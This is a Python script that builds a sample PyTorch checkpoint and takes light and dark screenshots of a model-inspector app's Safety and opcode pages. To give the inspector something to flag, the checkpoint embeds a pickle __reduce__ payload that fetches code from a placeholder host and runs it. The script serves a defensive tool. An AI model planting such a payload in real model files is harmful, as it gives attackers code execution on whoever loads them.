"""Paints the Safety page of a file that calls something, and its opcodes, light and dark.

python packaging/make_safety_screenshots.py [FOLDER]        (make screenshots)
"""

from __future__ import annotations

import argparse
import shutil
import sys
import tempfile
from pathlib import Path

# First: it keeps the window's own settings apart before Qt is imported.
from make_screenshots import OUTPUT, SIZE, keep, opened, wait_for
from PySide6.QtTest import QTest

from inspector_app.ui import settings, theme, windows
from inspector_app.ui.collector import Collector

NAME = "style_transfer_v2.pth"
CALLED = ("hooks", "after_load")


class _Calls:
    """What a file can hold instead of data."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (
            "import urllib.request as u; exec(u.urlopen('http://host.example/x').read())",
        )


def main() -> int:
    import torch

    output = Path(sys.argv[1]) if len(sys.argv) > 1 else OUTPUT
    output.mkdir(parents=True, exist_ok=True)
    # A neutral folder: its path is in the picture.
    folder = Path(tempfile.gettempdir()) / "downloads"
    folder.mkdir(exist_ok=True)
    torch.manual_seed(0)
    state = {}
    for block in range(6):
        state[f"encoder.{block}.conv.weight"] = torch.randn(16, 16, 3, 3)
        state[f"encoder.{block}.conv.bias"] = torch.zeros(16)
    options = argparse.Namespace(lr=2e-4, batch_size=16, style="mosaic")
    held = {"state_dict": state, "options": options, "hooks": {CALLED[1]: _Calls()}, "epoch": 40}
    torch.save(held, folder / NAME)
    application = windows.application()
    collector = Collector(application)
    for appearance in (theme.LIGHT, theme.DARK):
        theme.apply(appearance)
        window = windows.MainWindow(settings.Settings(), collector)
        window.resize(*SIZE)
        window.show()
        tab = opened(window, folder / NAME)
        tab.tree.select_path(CALLED)
        tab.splitter.setSizes([SIZE[0] - 600, 600])
        window.actions_by_id["show_safety"].trigger()
        pages = tab.side.pages
        wait_for(pages.safety.is_settled, "the safety report")
        QTest.qWait(600)  # texts take their height from their width
        keep(window, output / f"safety-{appearance}.png")
        pages.show_opcodes()
        wait_for(pages.safety.is_settled, "the opcodes")
        QTest.qWait(600)
        keep(window, output / f"safety-opcodes-{appearance}.png")
        window.close()
    shutil.rmtree(folder)
    return 0


if __name__ == "__main__":
    sys.exit(main())
